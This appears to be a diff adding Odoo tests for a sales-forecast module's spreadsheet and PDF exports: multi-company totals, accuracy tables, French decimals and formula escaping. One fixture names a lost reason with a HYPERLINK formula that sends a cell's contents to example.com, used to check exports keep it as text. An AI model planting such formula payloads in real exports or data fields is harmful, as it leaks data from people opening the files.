@@ -1,17 +1,38 @@
 # License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
 import io
+import json
+import re
 import zipfile
 from datetime import date, datetime
+from urllib.parse import parse_qs, urlparse
 
 import openpyxl
 import psycopg2
+from dateutil.relativedelta import relativedelta
 
-from odoo import Command, fields
+from odoo import Command, api, fields
 from odoo.exceptions import AccessError, UserError, ValidationError
 from odoo.tests import Form, new_test_user, tagged
 from odoo.tools import mute_logger
 
+from ..reports.funnel_xlsx import build_workbook
 from .common import FunnelCase
+
+
+def download_env(env, user):
+    """The environment of a spreadsheet's download, a plain http request:
+    the user's own context (language, time zone) and no company chosen."""
+    return api.Environment(env.cr, user.id, dict(env["res.users"].with_user(user).context_get()))
+
+
+def download_params(action):
+    """The parameters a download action's link carries."""
+    return json.loads(parse_qs(urlparse(action["url"]).query)["params"][0])
+
+
+def pdf_text(html):
+    html = re.sub(r"<style.*?</style>", "", html, flags=re.S)
+    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))
 
 
 @tagged("post_install", "-at_install")
@@ -530,3 +551,170 @@ class TestForecastSubmission(FunnelCase):
         self.assertIn("(not submitted)", html)
         with self.assertRaises(UserError):
             Submission.action_forecast_export(params, "csv")
+
+    # ------------------------------------------------------------------
+    # The exports say what the screen says
+    # ------------------------------------------------------------------
+    def accuracy_line(self, day, method, user=None, forecast=100000.0, actual=80000.0):
+        self.env.cr.execute(
+            """INSERT INTO crm_forecast_accuracy_report
+                   (period_type, date_from, lead_days, method, scope, team_id, user_id,
+                    company_id, forecast_amount, actual_amount, accuracy, optimism,
+                    revenue_amount)
+               VALUES ('month', %s, 0, %s, %s, %s, %s, %s, %s, %s, %s, %s, 0)""",
+            [
+                day,
+                method,
+                "rep" if user else "team",
+                self.team.id,
+                user.id if user else None,
+                self.company.id,
+                forecast,
+                actual,
+                100 * max(0.0, 1 - abs(actual - forecast) / actual),
+                forecast / actual,
+            ],
+        )
+
+    def print_screen(self, params, **context):
+        return (
+            self.env["ir.actions.report"]
+            .with_user(self.manager)
+            .with_context(**context)
+            ._render_qweb_html(
+                "sales_funnel_forecast.report_forecast_screen", [], data={"sff_params": params}
+            )[0]
+            .decode()
+        )
+
+    def test_spreadsheets_count_the_companies_of_the_screen(self):
+        """A manager of two companies works in the second (in euros) on a
+        team without a company: the screen counts that company's deal
+        (1,000), and so does the spreadsheet, downloaded by a plain http
+        request (no company chosen: it counted the default company's
+        26,000). The funnel's spreadsheet, likewise, counts the companies
+        the dashboard counted (its stage-weighted total)."""
+        eur = self.env.ref("base.EUR")
+        eur.active = True
+        other = self.env["res.company"].create({"name": "Euro Co", "currency_id": eur.id})
+        self.manager.company_ids |= other
+        self.make_deal(
+            "Euro",
+            self.s_proposal,
+            1000,
+            date_deadline=date(2026, 3, 20),
+            company_id=other.id,
+            user_id=False,
+        )
+        params = {"team_id": self.team.id, "period_type": "month", "date_from": "2026-03-01"}
+        on_screen = self.Submission.with_user(self.manager).with_context(
+            allowed_company_ids=[other.id, self.company.id]
+        )
+        screen = on_screen.get_forecast_screen(params)
+        self.assertEqual(screen["team_line"]["pipeline"], 1000.0)
+        sent = download_params(on_screen.action_forecast_export(params, "xlsx"))
+        self.assertEqual(sent["company_ids"], [other.id, self.company.id])
+        Downloaded = download_env(self.env, self.manager)["crm.forecast.submission"]
+        content, _name = Downloaded._sff_forecast_xlsx(sent)
+        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
+        team_row = [row for row in sheet.iter_rows(min_row=4, values_only=True) if row[0]][-1]
+        self.assertEqual(team_row[0], "Funnel Test Team (team)")
+        self.assertEqual(team_row[5], 1000)
+        # a company the user does not belong to is not counted
+        stranger = self.env["res.company"].create({"name": "Stranger Co"})
+        content, _name = Downloaded._sff_forecast_xlsx(dict(sent, company_ids=[stranger.id]))
+        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
+        team_row = [row for row in sheet.iter_rows(min_row=4, values_only=True) if row[0]][-1]
+        # the default company's March: 10,000 + 5,000 + 2,000 + 9,000
+        self.assertEqual(team_row[5], 26000)
+        with self.assertRaises(UserError):
+            Downloaded._sff_forecast_xlsx(dict(sent, company_ids="1,2"))
+
+        # the funnel: the dashboard in the first company only
+        Dashboard = self.env["crm.funnel.dashboard"].with_user(self.manager)
+        funnel = {"team_id": self.team.id, "period": "all"}
+        in_first = Dashboard.with_context(allowed_company_ids=[self.company.id])
+        shown = in_first.get_funnel_dashboard(funnel)["forecast"]["forecast"]
+        sent = download_params(in_first.action_export(funnel, "xlsx"))
+        self.assertEqual(sent["company_ids"], [self.company.id])
+        content, _name = download_env(self.env, self.manager)["crm.funnel.dashboard"]._sff_xlsx(
+            sent
+        )
+        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[2]
+        totals = [row for row in sheet.iter_rows(min_row=5, values_only=True) if row[0] == "Total"]
+        months = len(in_first.get_funnel_dashboard(funnel)["forecast"]["months"])
+        self.assertEqual(totals[0][2 + months], shown)
+        # in both companies, the euro deal's 1,000 x its stage's percentage more
+        both = Dashboard.with_context(allowed_company_ids=[self.company.id, other.id])
+        self.assertGreater(both.get_funnel_dashboard(funnel)["forecast"]["forecast"], shown)
+
+    def test_funnel_spreadsheet_keeps_typed_names_as_text(self):
+        """A lost reason or a salesperson's name typed as a formula stays
+        text in the funnel's spreadsheet, as in the forecast's."""
+        reason = self.env["crm.lost.reason"].create(
+            {"name": '=HYPERLINK("http://example.com/?leak="&B1,"Click")'}
+        )
+        self.make_deal("Lost one", self.s_proposal, 500).action_set_lost(lost_reason_id=reason.id)
+        self.rep.name = "=1+1"
+        Dashboard = self.env["crm.funnel.dashboard"].with_user(self.manager)
+        data = Dashboard._sff_data({"team_id": self.team.id, "period": "all"})
+        self.assertTrue(data["losses"]["by_reason"])
+        book = openpyxl.load_workbook(io.BytesIO(build_workbook(data, Dashboard._sff_labels(data))))
+        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+        self.assertEqual([cell.coordinate for cell in cells if cell.data_type == "f"], [])
+        self.assertIn(reason.name, [cell.value for cell in cells])
+
+    def test_pdf_accuracy_prints_whole_periods(self):
+        """Fourteen closed months of accuracy lines, three methods for the
+        two salespeople and the team each (126 lines): the spreadsheet has
+        them all; the PDF prints the newest twelve months whole (108 lines)
+        and says that two older ones are in the spreadsheet."""
+        months = [date(2025, 1, 1) + relativedelta(months=n) for n in range(14)]
+        for day in months:
+            for user in (self.rep, self.other_rep, None):
+                for method in ("commit", "best_case", "stage_weighted"):
+                    self.accuracy_line(day, method, user)
+        params = {"team_id": self.team.id, "period_type": "month", "date_from": "2026-03-01"}
+        content, _name = self.Submission.with_user(self.manager)._sff_forecast_xlsx(params)
+        sheet = openpyxl.load_workbook(io.BytesIO(content))["Accuracy by period"]
+        self.assertEqual(
+            len([row for row in sheet.iter_rows(min_row=4, values_only=True) if row[0]]), 126
+        )
+        html = self.print_screen(params)
+        table = html.split("Forecast accuracy at each period")[1].split("</table>")[0]
+        self.assertEqual(table.split("<tbody>")[1].count("<tr"), 108)
+        self.assertIn("Older periods (2): in the spreadsheet.", pdf_text(html))
+
+    def test_pdfs_write_decimals_in_the_user_language(self):
+        """In French, the PDFs write a coverage of 26,000 / 17,000 as
+        "1,53x", accuracy 75 % as "75,0" and optimism 1.25 as "1,25", and
+        the funnel's conversion rates with a comma, as the screens do."""
+        self.env["res.lang"]._activate_lang("fr_FR")
+        self.team.invoiced_target = 20000
+        self.accuracy_line(date(2026, 2, 1), "commit")
+        params = {"team_id": self.team.id, "period_type": "month", "date_from": "2026-03-01"}
+        text = pdf_text(self.print_screen(params, lang="fr_FR"))
+        screen = self.Submission.with_user(self.manager).get_forecast_screen(params)
+        self.assertEqual(round(screen["team_line"]["coverage"], 2), 1.53)
+        self.assertIn(" 1,53x ", text)
+        self.assertIn(" 75,0 ", text)
+        self.assertIn(" 1,25 ", text)
+        funnel = {"team_id": self.team.id, "period": "all"}
+        Dashboard = self.env["crm.funnel.dashboard"].with_user(self.manager)
+        rates = [
+            row["conversion_rate"]
+            for row in Dashboard._sff_data(funnel)["funnels"][0]["stages"]
+            if row["conversion_rate"] is not None
+        ]
+        self.assertTrue(rates)
+        html = (
+            self.env["ir.actions.report"]
+            .with_user(self.manager)
+            .with_context(lang="fr_FR")
+            ._render_qweb_html(
+                "sales_funnel_forecast.report_funnel", [], data={"sff_params": funnel}
+            )[0]
+            .decode()
+        )
+        self.assertIn(f" {rates[0]:.1f} ".replace(".", ","), pdf_text(html))
+        self.assertNotIn(f" {rates[0]:.1f} ", pdf_text(html))
